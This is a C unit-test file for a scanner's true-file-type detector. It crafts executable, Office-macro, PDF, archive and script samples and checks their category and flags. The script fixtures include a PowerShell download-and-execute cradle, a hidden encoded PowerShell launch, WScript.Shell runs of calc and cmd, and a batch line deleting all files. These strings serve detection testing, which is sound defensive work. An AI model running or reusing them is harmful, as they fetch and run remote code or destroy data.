/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * test_scan_ftype.c - true file types of samples crafted here: PE (EXE and
 * DLL), ELF, Mach-O, scripts by shebang, content and name, OOXML with and
 * without vbaProject.bin (zip built with libarchive), OLE2 with a VBA
 * project / "Macros" storage / EncryptedPackage, PDF with /JavaScript,
 * /#4A#53 and /OpenAction, images, archives, text; corpus documents when
 * present; a failing allocator.
 */
#include <archive.h>
#include <archive_entry.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "mxg_err.h"
#include "scan_archive.h"
#include "scan_ftype.h"
#include "scan_test.h"

#ifndef CORPUS_DIR
#define CORPUS_DIR "../shared/corpus"
#endif

static struct scan_ftype *ft;

static int setup(void **state)
{
	ft = scan_ftype_new(NULL, NULL);
	return ft == NULL ? -1 : 0;
}

static int teardown(void **state)
{
	scan_ftype_free(ft);
	return 0;
}

static struct scan_ftype_result detect(const void *p, size_t n, const char *name)
{
	struct scan_ftype_result r;

	assert_int_equal(scan_ftype_detect(ft, p, n, true, name, &r), 0);
	return r;
}

#define DETECT_STR(s, name) detect((s), strlen(s), (name))

static void expect(const struct scan_ftype_result *r, enum scan_ftype_cat cat, const char *kind,
		   uint32_t flags)
{
	if (r->cat != cat || strcmp(r->kind, kind) != 0 || (r->flags & flags) != flags)
		fail_msg("got %s/%s flags 0x%x mime %s; want %s/%s flags 0x%x",
			 scan_ftype_cat_name(r->cat), r->kind, r->flags, r->mime,
			 scan_ftype_cat_name(cat), kind, flags);
}

static void test_executables(void **state)
{
	uint8_t pe[1024] = { 'M', 'Z' };
	struct scan_ftype_result r;

	pe[0x3c] = 0x80;
	memcpy(pe + 0x80, "PE\0\0\x4c\x01", 6);
	pe[0x80 + 22] = 0x02; /* IMAGE_FILE_EXECUTABLE_IMAGE */
	r = detect(pe, sizeof(pe), "invoice.pdf");
	expect(&r, SCAN_FT_EXEC, "pe", SCAN_FTF_NAME_MISMATCH);
	assert_false(r.flags & SCAN_FTF_DLL);
	pe[0x80 + 23] = 0x20; /* IMAGE_FILE_DLL */
	r = detect(pe, sizeof(pe), "x.dll");
	expect(&r, SCAN_FT_EXEC, "pe", SCAN_FTF_DLL);
	assert_false(r.flags & SCAN_FTF_NAME_MISMATCH);
	memcpy(pe + 0x80, "XX", 2);
	r = detect(pe, sizeof(pe), NULL);
	expect(&r, SCAN_FT_EXEC, "mz", 0);

	{
		uint8_t elf[128] = { 0x7f, 'E', 'L', 'F', 2, 1, 1 };

		r = detect(elf, sizeof(elf), "photo.jpg");
		expect(&r, SCAN_FT_EXEC, "elf", SCAN_FTF_NAME_MISMATCH);
	}
	{
		uint8_t macho[64] = { 0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1 };

		r = detect(macho, sizeof(macho), NULL);
		expect(&r, SCAN_FT_EXEC, "macho", 0);
	}
}

static void test_scripts(void **state)
{
	struct scan_ftype_result r;

	r = DETECT_STR("#!/bin/sh\necho hi\n", NULL);
	expect(&r, SCAN_FT_SCRIPT, "shebang", 0);
	r = DETECT_STR("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n",
		       "invoice.txt");
	expect(&r, SCAN_FT_SCRIPT, "js", SCAN_FTF_NAME_MISMATCH);
	r = DETECT_STR("Set o = CreateObject(\"WScript.Shell\")\no.Run \"cmd\"\n", NULL);
	expect(&r, SCAN_FT_SCRIPT, "vbs", 0);
	r = DETECT_STR("powershell -windowstyle hidden -enc SQBFAFgA\n", "run.txt");
	expect(&r, SCAN_FT_SCRIPT, "ps1", 0);
	r = DETECT_STR("IEX (New-Object Net.WebClient).DownloadString('http://x/')\n", NULL);
	expect(&r, SCAN_FT_SCRIPT, "ps1", 0);
	r = DETECT_STR("<html><head><HTA:APPLICATION ID=\"x\"></head><body></body></html>\n", NULL);
	expect(&r, SCAN_FT_SCRIPT, "hta", 0);
	r = DETECT_STR("MsgBox \"hello\"\n", "hello.vbs");
	expect(&r, SCAN_FT_SCRIPT, "vbs", 0);
	r = DETECT_STR("@echo off\r\ndel /q *.*\r\n", NULL);
	expect(&r, SCAN_FT_SCRIPT, "bat", 0);
	r = DETECT_STR("Dear team,\nthe meeting is at ten.\n", "notes.txt");
	expect(&r, SCAN_FT_TEXT, "text", 0);
	assert_int_equal(r.flags & SCAN_FTF_NAME_MISMATCH, 0);
	r = DETECT_STR("<!DOCTYPE html><html><body><p>hi</p></body></html>\n", "a.html");
	expect(&r, SCAN_FT_HTML, "html", 0);
}

/* A zip built with libarchive. */
static uint8_t *zip_of(const char *const *names, size_t n, size_t *len, bool encrypt)
{
	size_t cap = 64 * 1024;
	uint8_t *buf = malloc(cap);
	struct archive *w = archive_write_new();

	archive_write_set_format_zip(w);
	if (encrypt) {
		if (archive_write_set_options(w, "zip:encryption=zipcrypt") != ARCHIVE_OK ||
		    archive_write_set_passphrase(w, "secret") != ARCHIVE_OK) {
			archive_write_free(w);
			free(buf);
			return NULL;
		}
	}
	assert_int_equal(archive_write_open_memory(w, buf, cap, len), ARCHIVE_OK);
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *e = archive_entry_new();
		static const char body[] = "<xml>content</xml>";

		archive_entry_set_pathname(e, names[i]);
		archive_entry_set_size(e, sizeof(body) - 1);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		assert_int_equal(archive_write_header(w, e), ARCHIVE_OK);
		archive_write_data(w, body, sizeof(body) - 1);
		archive_entry_free(e);
	}
	archive_write_close(w);
	archive_write_free(w);
	return buf;
}

static void test_ooxml(void **state)
{
	static const char *const docm[] = { "[Content_Types].xml", "_rels/.rels",
					    "word/document.xml", "word/vbaProject.bin" };
	static const char *const plain[] = { "a.txt", "b/c.txt" };
	struct scan_ftype_result r;
	size_t len;
	uint8_t *z;

	z = zip_of(docm, 4, &len, false);
	r = detect(z, len, "report.docm");
	expect(&r, SCAN_FT_OFFICE, "ooxml", SCAN_FTF_MACROS);
	assert_false(r.flags & SCAN_FTF_NAME_MISMATCH);
	free(z);
	z = zip_of(docm, 3, &len, false);
	r = detect(z, len, "report.docx");
	expect(&r, SCAN_FT_OFFICE, "ooxml", 0);
	assert_false(r.flags & SCAN_FTF_MACROS);
	free(z);
	z = zip_of(plain, 2, &len, false);
	r = detect(z, len, "files.zip");
	expect(&r, SCAN_FT_ARCHIVE, "zip", 0);
	free(z);
	z = zip_of(plain, 2, &len, true);
	if (z != NULL) {
		r = detect(z, len, "files.zip");
		expect(&r, SCAN_FT_ARCHIVE, "zip", SCAN_FTF_ENCRYPTED);
		free(z);
	} else {
		print_message("  (libarchive without zip encryption: encrypted zip case skipped)\n");
	}
}

/* A minimal OLE2 file: header, one directory sector with |names|. */
static void ole2(uint8_t *buf, const char *const *names, const uint8_t *types, size_t n)
{
	memset(buf, 0, 1024);
	memcpy(buf, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	buf[0x1a] = 3;    /* major version */
	buf[0x1c] = 0xfe; /* byte order */
	buf[0x1d] = 0xff;
	buf[0x1e] = 9;    /* sector shift: 512 */
	for (size_t i = 0; i < n && i < 4; i++) {
		uint8_t *e = buf + 512 + 128 * i;
		size_t l = strlen(names[i]);

		for (size_t k = 0; k < l; k++)
			e[2 * k] = (uint8_t)names[i][k];
		e[64] = (uint8_t)(2 * (l + 1));
		e[66] = types[i];
		e[67] = 1;
	}
}

static void test_ole2(void **state)
{
	static const char *const vba[] = { "Root Entry", "Macros", "VBA", "_VBA_PROJECT" };
	static const char *const doc[] = { "Root Entry", "WordDocument", "1Table" };
	static const char *const enc[] = { "Root Entry", "EncryptionInfo", "EncryptedPackage" };
	static const char *const vbadir[] = { "Root Entry", "VBA", "dir", "Module1" };
	static const uint8_t t3[] = { 5, 1, 2, 2 };
	static const uint8_t t1[] = { 5, 1, 1, 2 }, t2[] = { 5, 2, 2 };
	uint8_t buf[1024];
	struct scan_ftype_result r;

	ole2(buf, vba, t1, 4);
	r = detect(buf, sizeof(buf), "old.doc");
	expect(&r, SCAN_FT_OFFICE, "ole2", SCAN_FTF_MACROS);
	ole2(buf, doc, t2, 3);
	r = detect(buf, sizeof(buf), "old.doc");
	expect(&r, SCAN_FT_OFFICE, "ole2", 0);
	assert_false(r.flags & SCAN_FTF_MACROS);
	ole2(buf, vbadir, t3, 4);
	r = detect(buf, sizeof(buf), "x.xls");
	expect(&r, SCAN_FT_OFFICE, "ole2", SCAN_FTF_MACROS);
	ole2(buf, vbadir, t3, 2); /* an empty VBA storage (Publisher) */
	r = detect(buf, sizeof(buf), "x.pub");
	assert_false(r.flags & SCAN_FTF_MACROS);
	ole2(buf, enc, t2, 3);
	r = detect(buf, sizeof(buf), "secret.docx");
	expect(&r, SCAN_FT_OFFICE, "ole2", SCAN_FTF_ENCRYPTED);
}

static void test_pdf(void **state)
{
	struct scan_ftype_result r;

	r = DETECT_STR("%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
		       "2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF\n", "a.pdf");
	expect(&r, SCAN_FT_PDF, "pdf", SCAN_FTF_JS | SCAN_FTF_AUTOACTION);
	r = DETECT_STR("%PDF-1.4\n1 0 obj << /#4A#53 (app.alert(1)) >> endobj\n", NULL);
	expect(&r, SCAN_FT_PDF, "pdf", SCAN_FTF_JS);
	r = DETECT_STR("%PDF-1.4\n1 0 obj << /S /J#61vaScript >> endobj\n", NULL);
	expect(&r, SCAN_FT_PDF, "pdf", SCAN_FTF_JS);
	r = DETECT_STR("%PDF-1.4\n1 0 obj << /JSX 1 /Type/Page/Contents 4 0 R >> endobj\n", NULL);
	expect(&r, SCAN_FT_PDF, "pdf", 0);
	assert_int_equal(r.flags & (SCAN_FTF_JS | SCAN_FTF_AUTOACTION), 0);
	r = DETECT_STR("%PDF-1.4\ntrailer << /Encrypt 5 0 R >>\n", NULL);
	expect(&r, SCAN_FT_PDF, "pdf", SCAN_FTF_ENCRYPTED);
}

static void test_images_archives(void **state)
{
	static const uint8_t png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0";
	static const uint8_t gz[] = "\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0";
	struct scan_ftype_result r;

	r = detect(png, sizeof(png) - 1, "a.png");
	expect(&r, SCAN_FT_IMAGE, "png", 0);
	assert_string_equal(r.mime, "image/png");
	r = detect(gz, sizeof(gz) - 1, "a.gz");
	assert_int_equal(r.cat, SCAN_FT_ARCHIVE);
	r = detect("", 0, NULL);
	assert_int_equal(r.cat, SCAN_FT_TEXT);
}

/* The containers decoded by scan_archive's own decoders have kinds. */
static void test_own_containers(void **state)
{
	static const uint8_t szdd[] = "SZDD\x88\xf0\x27\x33" "A\x65\x0c\0\0\0\x07" "abc";
	static const uint8_t tnef[] = "\x78\x9f\x3e\x22\x01\0\x01\x06\x90\x08\0\x04\0\0\0";
	static const char hqx[] = "(This file must be converted with BinHex 4.0)\r\n:!!!:\r\n";
	/* binary cpio: magic, mode 0100644 at 6, name size 2 at 20, "a\0" */
	uint8_t cpio[64] = { 0xc7, 0x71 };
	struct scan_ftype_result r;

	cpio[6] = 0xa4;
	cpio[7] = 0x81;
	cpio[20] = 2;
	cpio[26] = 'a';
	r = detect(szdd, sizeof(szdd) - 1, "setup.ex_");
	expect(&r, SCAN_FT_ARCHIVE, "szdd", 0);
	r = detect(tnef, sizeof(tnef) - 1, "winmail.dat");
	expect(&r, SCAN_FT_ARCHIVE, "tnef", 0);
	assert_string_equal(r.mime, "application/vnd.ms-tnef");
	r = DETECT_STR(hqx, "a.hqx");
	expect(&r, SCAN_FT_ARCHIVE, "binhex", 0);
	r = detect(cpio, sizeof(cpio), "a.cpio");
	expect(&r, SCAN_FT_ARCHIVE, "cpio", 0);
	cpio[27] = 'b'; /* the name is no longer NUL-terminated: not cpio */
	assert_false(scan_archive_sniff(cpio, sizeof(cpio)));
}

static void test_corpus_docs(void **state)
{
	static const struct {
		const char *rel;
		enum scan_ftype_cat cat;
		uint32_t flags;
	} c[] = {
		{ "dlp/bhdicaire-dataLossPrevention/dataSets/legal/employmentContract.en.docx",
		  SCAN_FT_OFFICE, 0 },
		{ "dlp/bhdicaire-dataLossPrevention/dataSets/pharmaceutical/Retail Pricing.xlsx",
		  SCAN_FT_OFFICE, 0 },
		{ "dlp/bhdicaire-dataLossPrevention/dataSets/pharmaceutical/Hayfever Blaster Nasal Spray.pdf",
		  SCAN_FT_PDF, 0 },
		{ "dlp/bhdicaire-dataLossPrevention/dataSets/pharmaceutical/Knock Me Out I'm Ill Potion.pub",
		  SCAN_FT_OFFICE, 0 },
		{ "virus/archives/recursiveextractor/TestDataEncryptedAES.zip", SCAN_FT_ARCHIVE,
		  SCAN_FTF_ENCRYPTED },
		{ "virus/archives/recursiveextractor/TestData.7z", SCAN_FT_ARCHIVE, 0 },
	};
	unsigned done = 0;

	for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		char path[1024];
		size_t len;
		uint8_t *p;
		struct scan_ftype_result r;

		snprintf(path, sizeof(path), "%s/%s", getenv("MXG_CORPUS") ? getenv("MXG_CORPUS") :
			 CORPUS_DIR, c[i].rel);
		p = load_file(path, &len);
		if (p == NULL) {
			print_message("SKIP: %s absent\n", path);
			continue;
		}
		r = detect(p, len, strrchr(c[i].rel, '/') + 1);
		print_message("  %-40s %-8s %-8s 0x%02x %s\n", strrchr(c[i].rel, '/') + 1,
			      scan_ftype_cat_name(r.cat), r.kind, r.flags, r.mime);
		assert_int_equal(r.cat, c[i].cat);
		assert_int_equal(r.flags & c[i].flags, c[i].flags);
		assert_false(r.flags & SCAN_FTF_MACROS);
		free(p);
		done++;
	}
	if (done == 0)
		skip();
}

static void test_failing_alloc(void **state)
{
	struct failmem fm;
	struct scan_ftype *f;

	failmem_init(&fm, 1);
	assert_null(scan_ftype_new(&fm.mem, NULL));
	assert_int_equal(fm.live, 0);
	failmem_init(&fm, 0);
	f = scan_ftype_new(&fm.mem, NULL);
	assert_non_null(f);
	scan_ftype_free(f);
	assert_int_equal(fm.live, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_executables),
		cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_ooxml),
		cmocka_unit_test(test_ole2),
		cmocka_unit_test(test_pdf),
		cmocka_unit_test(test_images_archives),
		cmocka_unit_test(test_own_containers),
		cmocka_unit_test(test_corpus_docs),
		cmocka_unit_test(test_failing_alloc),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
